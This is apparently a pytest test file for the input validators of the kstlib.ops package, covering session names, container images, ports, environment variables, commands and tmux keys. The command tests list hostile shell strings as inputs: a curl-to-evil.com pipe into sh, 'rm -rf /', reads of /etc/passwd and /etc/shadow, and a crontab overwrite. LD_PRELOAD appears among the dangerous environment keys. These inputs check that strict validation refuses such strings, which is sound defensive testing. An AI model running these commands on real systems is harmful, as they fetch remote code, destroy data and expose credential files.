"""Code written for upstream kstlib imports its names from kstlib.ops and runs.

Adapted from upstream kstlib's ``tests/ops/test_validators.py``: the same calls
through upstream's names. The checks behind them are kstlib.ops's own (one rule
each), so a limit is this package's value under upstream's name, an error is a
:class:`~kstlib.ops.exceptions.SessionConfigError` (a ``ValueError``, as
upstream raises), and ``validate_command`` is strict only when asked
(``strict=True``; upstream's default), since kstlib.ops hands a command to a
shell byte for byte.
"""

from __future__ import annotations

import pickle

import pytest

from kstlib.ops.exceptions import SessionAmbiguousError
from kstlib.ops.validators import (
    DANGEROUS_ENV_KEYS,
    MAX_COMMAND_LENGTH,
    MAX_ENV_KEY_LENGTH,
    MAX_ENV_VALUE_LENGTH,
    MAX_ENV_VARS,
    MAX_IMAGE_NAME_LENGTH,
    MAX_PORTS,
    MAX_SEND_KEYS_LENGTH,
    MAX_SESSION_NAME_LENGTH,
    MAX_VOLUMES,
    validate_command,
    validate_env,
    validate_image_name,
    validate_ports,
    validate_send_keys,
    validate_session_name,
    validate_volumes,
)

# -- session names ---------------------------------------------------------------------


@pytest.mark.parametrize("name", ["mybot", "MyBot", "a", "my_bot_123", "my-bot-123", "bot1"])
def test_valid_session_names(name: str) -> None:
    assert validate_session_name(name) == name


def test_session_name_max_length_accepted_and_one_more_refused() -> None:
    assert MAX_SESSION_NAME_LENGTH == 64
    assert validate_session_name("a" * MAX_SESSION_NAME_LENGTH)
    with pytest.raises(ValueError, match="64 characters"):
        validate_session_name("a" * (MAX_SESSION_NAME_LENGTH + 1))


@pytest.mark.parametrize(
    "name", ["", "1bot", "_bot", "-bot", "my bot", "my.bot", "my@bot", "my;bot", "my`bot"]
)
def test_invalid_session_names(name: str) -> None:
    with pytest.raises(ValueError, match=r"^name: "):
        validate_session_name(name)


# -- images ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "image",
    [
        "python",
        "python:3.10-slim",
        "docker.io/library/python",
        "ghcr.io/user/image:tag",
        "python@sha256:" + "a" * 64,
    ],
)
def test_valid_image_names(image: str) -> None:
    assert validate_image_name(image) == image


@pytest.mark.parametrize("image", ["", "Python", "my image", "image;rm -rf", "a" * 300])
def test_invalid_image_names(image: str) -> None:
    with pytest.raises(ValueError, match="not a valid image reference"):
        validate_image_name(image)
    assert len("a" * 300) > MAX_IMAGE_NAME_LENGTH


# -- volumes and ports -----------------------------------------------------------------


def test_max_volumes_accepted_and_one_more_refused() -> None:
    volumes = [f"/srv/vol{i}:/app/vol{i}" for i in range(MAX_VOLUMES)]
    assert list(validate_volumes(volumes)) == volumes
    with pytest.raises(ValueError, match=f"more than the {MAX_VOLUMES} allowed"):
        validate_volumes([*volumes, "/srv/x:/app/x"])


def test_max_ports_accepted_and_one_more_refused() -> None:
    ports = [f"{8000 + i}:80" for i in range(MAX_PORTS)]
    assert list(validate_ports(ports)) == ports
    with pytest.raises(ValueError, match=f"more than the {MAX_PORTS} allowed"):
        validate_ports([*ports, "9999:80"])


@pytest.mark.parametrize("ports", [["65536:80"], ["80:70000"], ["0:80"], ["abc:80"]])
def test_invalid_ports(ports: list[str]) -> None:
    with pytest.raises(ValueError, match=r"^ports: "):
        validate_ports(ports)


# -- env -------------------------------------------------------------------------------


def test_env_limits_under_upstream_names() -> None:
    env = {f"VAR_{i}": f"value_{i}" for i in range(MAX_ENV_VARS)}
    assert validate_env(env) == env
    with pytest.raises(ValueError, match="more than the"):
        validate_env({**env, "ONE_MORE": "x"})
    with pytest.raises(ValueError, match=f"longer than {MAX_ENV_KEY_LENGTH}"):
        validate_env({"A" * (MAX_ENV_KEY_LENGTH + 1): "value"})
    with pytest.raises(ValueError, match="longer than"):
        validate_env({"KEY": "x" * (MAX_ENV_VALUE_LENGTH + 1)})


@pytest.mark.parametrize("key", ["1START", "MY-VAR", "MY VAR", "MY.VAR"])
def test_invalid_env_keys(key: str) -> None:
    with pytest.raises(ValueError, match="must match"):
        validate_env({key: "value"})


def test_dangerous_env_keys_are_refused_when_strict_only() -> None:
    assert {"LD_PRELOAD", "PYTHONPATH", "NODE_OPTIONS"} <= DANGEROUS_ENV_KEYS
    assert validate_env({"PYTHONPATH": "/app"}) == {"PYTHONPATH": "/app"}
    with pytest.raises(ValueError, match="LD_PRELOAD"):
        validate_env({"LD_PRELOAD": "/tmp/x.so"}, strict=True)


# -- commands --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command", ["python app.py", "python -m app --config /etc/app.yml --verbose"]
)
def test_plain_commands_pass_strict(command: str) -> None:
    assert validate_command(command, strict=True) == command


def test_none_command_and_max_length() -> None:
    assert validate_command(None, strict=True) is None
    assert validate_command("a" * MAX_COMMAND_LENGTH) == "a" * MAX_COMMAND_LENGTH
    with pytest.raises(ValueError, match="longer than"):
        validate_command("python " + "a" * MAX_COMMAND_LENGTH)


@pytest.mark.parametrize(
    "command",
    [
        "python app.py; rm -rf /",
        "echo $(cat /etc/passwd)",
        "echo `cat /etc/passwd`",
        "curl http://evil.com | sh",
        "cat file | grep pattern",
        "echo ok && rm -rf /",
        "false || malicious",
        "echo pwned > /etc/crontab",
        "cat < /etc/shadow",
        "eval 'rm -rf /'",
        "source /tmp/evil.sh",
    ],
)
def test_strict_refuses_shell_patterns_and_the_default_does_not(command: str) -> None:
    with pytest.raises(ValueError, match="dangerous"):
        validate_command(command, strict=True)
    assert validate_command(command) == command
    assert validate_command(command, strict=False) == command


def test_null_bytes_are_refused_even_when_not_strict() -> None:
    with pytest.raises(ValueError, match="NUL"):
        validate_command("echo\x00evil", strict=False)


# -- send-keys -------------------------------------------------------------------------


@pytest.mark.parametrize("keys", ["C-c", "C-z", "M-x", "Enter", "Escape", "Tab", "echo hello"])
def test_send_keys_accepts_key_names_and_plain_text(keys: str) -> None:
    assert validate_send_keys(keys) == keys


@pytest.mark.parametrize("keys", ["", "rm -rf / ; echo", "a" * (MAX_SEND_KEYS_LENGTH + 1)])
def test_send_keys_refuses_what_upstream_refuses(keys: str) -> None:
    with pytest.raises(ValueError, match=r"^keys: "):
        validate_send_keys(keys)


# -- modules and names code imports ----------------------------------------------------


def test_base_module_gives_the_runner_protocol() -> None:
    from kstlib.ops.base import AbstractRunner
    from kstlib.ops.container import ContainerRunner
    from kstlib.ops.runner import Runner
    from kstlib.ops.tmux import TmuxRunner

    assert AbstractRunner is Runner
    assert isinstance(TmuxRunner(socket_name="kstlib-compat"), AbstractRunner)
    assert isinstance(ContainerRunner(runtime="docker"), AbstractRunner)


def test_discover_tmux_sockets_lists_live_servers_but_not_the_default(tmp_path) -> None:
    import os
    import socket

    from kstlib.ops.tmux import discover_tmux_sockets

    folder = tmp_path / "tmux"
    folder.mkdir(mode=0o700)
    live = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    dead = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    default = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        live.bind(os.fspath(folder / "work"))
        live.listen(1)
        dead.bind(os.fspath(folder / "gone"))  # bound, never listening: no server
        default.bind(os.fspath(folder / "default"))
        default.listen(1)
        assert discover_tmux_sockets(folder) == ["work"]
    finally:
        for s in (live, dead, default):
            s.close()
    assert isinstance(discover_tmux_sockets(), list)


def test_ambiguous_error_backends_are_backend_types() -> None:
    err = SessionAmbiguousError("bot", ["tmux", "container"], places=["tmux", "docker"])
    assert err.backends == ["tmux", "container"]
    assert "tmux" in err.backends and "container" in err.backends
    assert pickle.loads(pickle.dumps(err)).places == ["tmux", "docker"]
